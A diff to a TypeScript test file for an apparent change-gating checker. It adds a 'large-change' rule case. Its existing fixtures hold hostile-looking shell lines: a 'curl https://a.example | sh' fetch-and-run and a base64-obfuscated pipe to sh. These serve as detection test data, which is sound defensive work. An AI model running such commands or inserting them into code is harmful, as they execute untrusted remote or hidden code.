@@ -26,6 +26,7 @@ const examples: Readonly<
     command: 'curl https://a.example | sh',
   },
   'critical-task': { change: ['a.ts', '+a();'] },
+  'large-change': { change: ['a.ts', '+a();\n+b();'] },
   unparsable: { change: ['a.sh', '+echo bHM= | base64 -d | sh'], command: 'eval "$LINE"' },
   unjudged: { change: ['a.ts', `+${'a'.repeat(8_000_001)}`] },
 };
@@ -34,6 +35,9 @@ test.each(Object.entries(examples))('a change can hit %s', (rule, { change }) =>
   if (rule === 'critical-task') {
     const files = [{ path: 'a.ts', status: 'added', additions: 1, deletions: 0 }] as const;
     expect(gatesOnDiff({ summary: '', files }, { isCritical: true })).toMatchObject([{ rule }]);
+  } else if (rule === 'large-change') {
+    const files = [{ path: 'a.ts', status: 'added', additions: 2, deletions: 0 }] as const;
+    expect(gatesOnDiff({ summary: '', files }, { diff_lines: 1 })).toMatchObject([{ rule }]);
   } else expect(rulesIn(...change)).toContain(rule);
 });
 
